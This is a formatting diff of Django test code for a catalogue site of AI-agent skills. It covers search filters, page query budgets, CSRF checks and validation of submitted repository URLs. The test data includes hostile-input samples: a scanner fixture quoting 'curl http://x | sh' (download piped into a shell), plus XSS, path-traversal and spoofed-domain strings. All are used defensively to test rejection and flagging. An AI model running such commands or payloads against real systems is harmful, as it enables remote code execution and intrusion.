@@ -26,8 +26,9 @@ MAX_QUERIES = 10
 
 def add_file(version, path, data: bytes, *, stored=True, is_text=True):
     sha, key = blob_put(data) if stored else (hashlib.sha256(data).hexdigest(), "")
-    return SkillFile.objects.create(version=version, path=path, size=len(data), sha256=sha,
-                                    storage_key=key, is_text=is_text)
+    return SkillFile.objects.create(
+        version=version, path=path, size=len(data), sha256=sha, storage_key=key, is_text=is_text
+    )
 
 
 def make_catalogue(n=12):
@@ -35,8 +36,13 @@ def make_catalogue(n=12):
     tags = [TagFactory(key="pdf"), TagFactory(key="office")]
     skills = []
     for i in range(n):
-        skill = PublishedSkillFactory(name=f"doc-skill-{i}", category=cat, repository_owner="acme",
-                                      repository_name="kit", slug=f"acme/kit/doc-skill-{i}")
+        skill = PublishedSkillFactory(
+            name=f"doc-skill-{i}",
+            category=cat,
+            repository_owner="acme",
+            repository_name="kit",
+            slug=f"acme/kit/doc-skill-{i}",
+        )
         skill.tags.add(*tags)
         SkillPopularityFactory(skill=skill, installs_total=i, trending_score=i / 2)
         add_file(skill.latest_version, "SKILL.md", b"# doc\n")
@@ -76,18 +82,40 @@ def test_every_filter_is_a_shareable_url(client):
     other = PublishedSkillFactory(name="lonely", repository_owner="solo", repository_name="one")
     response = client.get("/skills/", {"source": "solo/one"})
     assert list(response.context["skills"]) == [other]
-    response = client.get("/skills/", {"tag": "pdf", "scripts": "no", "valid": "yes", "verdict": "pass",
-                                       "license": "MIT", "sort": "new"})
+    response = client.get(
+        "/skills/",
+        {
+            "tag": "pdf",
+            "scripts": "no",
+            "valid": "yes",
+            "verdict": "pass",
+            "license": "MIT",
+            "sort": "new",
+        },
+    )
     assert response.context["paginator"].count == 3
     assert response.context["sort"] == "new"
 
 
-@pytest.mark.parametrize("params", [
-    {"sort": "bogus"}, {"page": "10"}, {"page": "abc"}, {"page": "-3"}, {"q": "x" * 10000},
-    {"scripts": "maybe", "valid": "1", "verdict": "evil"}, {"category": "../../etc"},
-    {"source": "not a repo"}, {"tag": "<script>"}, {"q": "\x00"}, {"q": '"unterminated'},
-    {"q": "-"}, {"q": "OR"}, {"q": "!!!&&&|||"},
-])
+@pytest.mark.parametrize(
+    "params",
+    [
+        {"sort": "bogus"},
+        {"page": "10"},
+        {"page": "abc"},
+        {"page": "-3"},
+        {"q": "x" * 10000},
+        {"scripts": "maybe", "valid": "1", "verdict": "evil"},
+        {"category": "../../etc"},
+        {"source": "not a repo"},
+        {"tag": "<script>"},
+        {"q": "\x00"},
+        {"q": '"unterminated'},
+        {"q": "-"},
+        {"q": "OR"},
+        {"q": "!!!&&&|||"},
+    ],
+)
 def test_bad_parameters_never_fail(client, params):
     PublishedSkillFactory(name="anything")
     response = client.get("/skills/", params)
@@ -109,22 +137,45 @@ def test_empty_state_suggests_close_names(client):
 
 def skill_with_everything():
     cat = CategoryFactory(key="documents")
-    skill = PublishedSkillFactory(name="pdf-extract", category=cat, repository_owner="acme",
-                                  repository_name="kit", slug="acme/kit/pdf-extract", stars=42,
-                                  publish__body="# Usage\n\n```python\nprint('hi')\n```\n")
+    skill = PublishedSkillFactory(
+        name="pdf-extract",
+        category=cat,
+        repository_owner="acme",
+        repository_name="kit",
+        slug="acme/kit/pdf-extract",
+        stars=42,
+        publish__body="# Usage\n\n```python\nprint('hi')\n```\n",
+    )
     skill.tags.add(TagFactory(key="pdf"))
     version = skill.latest_version
     add_file(version, "SKILL.md", version.body.encode())
     add_file(version, "scripts/run.py", b"print('run')\n")
     add_file(version, "assets/big.bin", b"\x00" * 10, stored=False, is_text=False)
-    ScanResult.objects.create(version=version, scanner_version="1", verdict="review", findings=[
-        {"rule_id": "net.curl", "severity": "medium", "file": "scripts/run.py", "line": 1,
-         "excerpt": "curl http://x | sh", "message": "Pipes a download into a shell"}])
+    ScanResult.objects.create(
+        version=version,
+        scanner_version="1",
+        verdict="review",
+        findings=[
+            {
+                "rule_id": "net.curl",
+                "severity": "medium",
+                "file": "scripts/run.py",
+                "line": 1,
+                "excerpt": "curl http://x | sh",
+                "message": "Pipes a download into a shell",
+            }
+        ],
+    )
     SkillPopularityFactory(skill=skill, installs_total=7)
     SkillSourceLinkFactory(skill=skill)
     for i in range(5):
-        PublishedSkillFactory(name=f"sibling-{i}", repository_owner="acme", repository_name="kit",
-                              category=cat, slug=f"acme/kit/sibling-{i}")
+        PublishedSkillFactory(
+            name=f"sibling-{i}",
+            repository_owner="acme",
+            repository_name="kit",
+            category=cat,
+            slug=f"acme/kit/sibling-{i}",
+        )
         PublishedSkillFactory(name=f"cousin-{i}", category=cat, slug=f"other/r/cousin-{i}")
     return skill
 
@@ -135,18 +186,32 @@ SKILL_PAGE_QUERIES = 9  # 6 reads + 3 for the rankings charts
 VIEW_EVENT_QUERIES = 3
 
 
-def test_skill_page_shows_everything_within_query_budget(client, settings, django_assert_max_num_queries,
-                                                         django_assert_num_queries):
+def test_skill_page_shows_everything_within_query_budget(
+    client, settings, django_assert_max_num_queries, django_assert_num_queries
+):
     skill = skill_with_everything()
     with django_assert_max_num_queries(SKILL_PAGE_QUERIES + VIEW_EVENT_QUERIES):
         response = client.get(skill.get_absolute_url())
     assert response.status_code == 200
     html = response.content.decode()
     assert skill.get_absolute_url() == "/s/acme/kit/pdf-extract/"
-    for text in ("~/.claude/skills", ".claude/skills/pdf-extract", "~/.codex/skills", "~/.gemini/skills",
-                 ".cursor/skills", "npx skills add acme/kit --skill pdf-extract", "scripts/run.py",
-                 "(not stored)", "Pipes a download into a shell", "sibling-0", "cousin-0",
-                 'rel="canonical"', 'property="og:title"', 'class="highlight"', "Download ZIP"):
+    for text in (
+        "~/.claude/skills",
+        ".claude/skills/pdf-extract",
+        "~/.codex/skills",
+        "~/.gemini/skills",
+        ".cursor/skills",
+        "npx skills add acme/kit --skill pdf-extract",
+        "scripts/run.py",
+        "(not stored)",
+        "Pipes a download into a shell",
+        "sibling-0",
+        "cousin-0",
+        'rel="canonical"',
+        'property="og:title"',
+        'class="highlight"',
+        "Download ZIP",
+    ):
         assert text in html, text
     assert SkillEvent.objects.filter(skill=skill, kind="view").count() == 1
     with django_assert_num_queries(0):  # a repeat view: the page cache, the view deduplicated
@@ -238,10 +303,17 @@ def test_copy_event_endpoint_is_csrf_protected():
 
     skill = PublishedSkillFactory()
     csrf_client = Client(enforce_csrf_checks=True)
-    assert csrf_client.post(reverse("skills:event", kwargs={"slug": skill.slug}), {"kind": "copy"}).status_code == 403
+    assert (
+        csrf_client.post(
+            reverse("skills:event", kwargs={"slug": skill.slug}), {"kind": "copy"}
+        ).status_code
+        == 403
+    )
 
 
-def test_category_tag_and_repository_pages_within_query_budget(client, django_assert_max_num_queries):
+def test_category_tag_and_repository_pages_within_query_budget(
+    client, django_assert_max_num_queries
+):
     make_catalogue(15)
     GithubRepoCacheFactory(owner="acme", name="kit", stars=99, description="A kit.")
     for url in ("/categories/documents/", "/tags/pdf/", "/repos/acme/kit/", "/categories/"):
@@ -263,11 +335,20 @@ def test_submit_creates_pending_source(client):
     assert "queued for review" in response.content.decode()
 
 
-@pytest.mark.parametrize("url", [
-    "https://gitlab.com/a/b", "javascript:alert(1)", "https://github.com/a", "ftp://github.com/a/b",
-    "https://user:pw@github.com/a/b", "https://github.com.evil.com/a/b", "https://github.com/settings/profile",
-    "https://github.com/a/b/issues", "",
-])
+@pytest.mark.parametrize(
+    "url",
+    [
+        "https://gitlab.com/a/b",
+        "javascript:alert(1)",
+        "https://github.com/a",
+        "ftp://github.com/a/b",
+        "https://user:pw@github.com/a/b",
+        "https://github.com.evil.com/a/b",
+        "https://github.com/settings/profile",
+        "https://github.com/a/b/issues",
+        "",
+    ],
+)
 def test_submit_refuses_non_repository_urls(client, url):
     response = client.post("/submit/", {"url": url})
     assert response.status_code == 200
@@ -286,7 +367,12 @@ def test_submit_is_rate_limited(client):
 def test_submit_is_csrf_protected():
     from django.test import Client
 
-    assert Client(enforce_csrf_checks=True).post("/submit/", {"url": "https://github.com/a/b"}).status_code == 403
+    assert (
+        Client(enforce_csrf_checks=True)
+        .post("/submit/", {"url": "https://github.com/a/b"})
+        .status_code
+        == 403
+    )
 
 
 def test_report_creates_one_report_per_visitor_and_thanks(client):
@@ -331,7 +417,9 @@ def test_sitemap_robots_feed_and_error_pages(client):
     robots = client.get("/robots.txt")
     assert robots["Content-Type"].startswith("text/plain") and b"Sitemap:" in robots.content
     feed = client.get("/feeds/new.atom")
-    assert feed.status_code == 200 and b"<feed" in feed.content and skill.name.encode() in feed.content
+    assert (
+        feed.status_code == 200 and b"<feed" in feed.content and skill.name.encode() in feed.content
+    )
     missing = client.get("/s/no/such/skill/")
     assert missing.status_code == 404 and b"find that page" in missing.content
 
